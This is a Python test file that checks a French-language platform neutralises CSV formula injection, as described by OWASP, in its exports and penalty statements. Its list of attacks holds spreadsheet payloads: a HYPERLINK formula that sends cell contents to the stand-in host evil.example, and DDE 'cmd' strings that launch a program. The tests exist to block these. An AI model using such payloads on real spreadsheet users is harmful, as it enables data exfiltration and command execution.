"""CSV formula injection (OWASP): every CSV the platform writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from shared.domain import french_csv
from shared.domain.penalties import Statement, StatementLine, statement_csv

ATTACKS = ["=HYPERLINK(\"https://evil.example/?\"&A1;\"Cliquez\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(attack):
    [[cell, other]] = cells(french_csv.write([(attack, "texte")]))
    assert cell == "'" + attack and other == "texte"


@pytest.mark.parametrize("number", ["-150,00", "-3,5", "+12", "0,00", "42", "-7"])
def test_a_cell_that_is_only_a_number_stays_a_number(number):
    assert cells(french_csv.write([(number, -12, 3.5)])) == [[number, "-12", "3.5"]]


def test_text_that_merely_contains_a_sign_is_left_alone():
    assert cells(french_csv.write([("Remise = accord du 3/03", "a-b", "x@y.fr")])) == [
        ["Remise = accord du 3/03", "a-b", "x@y.fr"]]


def test_a_penalty_statement_neutralises_the_reason_typed_by_the_manager_and_keeps_negative_amounts():
    line = StatementLine.model_validate({
        "entry_id": "e1", "deadline_id": "D1-BC-1", "kind": "D1", "kind_label": "Retard de transmission",
        "day": 1, "local_date": "2026-03-03", "rule_id": "r1", "amount_cents": -1500, "status": "waived",
        "reason": "=HYPERLINK(\"https://evil.example\")", "territory": "69"}, strict=False)
    statement = Statement.model_validate({
        "tenant_id": "mgr-test", "contractor_id": "ctr-test", "contract_id": None, "month": "2026-03",
        "lines": [line.model_dump()],
        "accrued_cents": 0, "disputed_cents": 0, "waived_cents": -1500, "total_cents": -1500}, strict=False)
    rows = cells(statement_csv(statement))
    assert rows[1][9] == "'=HYPERLINK(\"https://evil.example\")"
    assert rows[1][7] == "-15,00" and rows[-1][7] == "-15,00"
    assert dt.date(2026, 3, 3).strftime("%d/%m/%Y") == rows[1][0]
